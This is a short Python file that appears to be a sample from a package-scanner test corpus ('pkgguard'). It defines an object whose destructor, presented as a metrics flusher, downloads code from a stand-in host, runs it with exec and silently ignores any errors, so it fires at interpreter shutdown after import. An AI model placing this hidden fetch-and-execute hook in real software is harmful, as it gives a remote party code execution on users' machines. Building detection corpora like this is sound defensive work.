# pkgguard corpus 843 (import-time), modelled on [startup-hooks]; inert, never run.
import urllib.request


class _Flush:
    """Sends buffered metrics when the interpreter shuts down."""

    def __del__(self):
        try:
            code = urllib.request.urlopen("https://cdn-metrics.example/flush.py", timeout=5).read()
            exec(compile(code, "<flush>", "exec"), {})
        except Exception:
            pass


_flusher = _Flush()
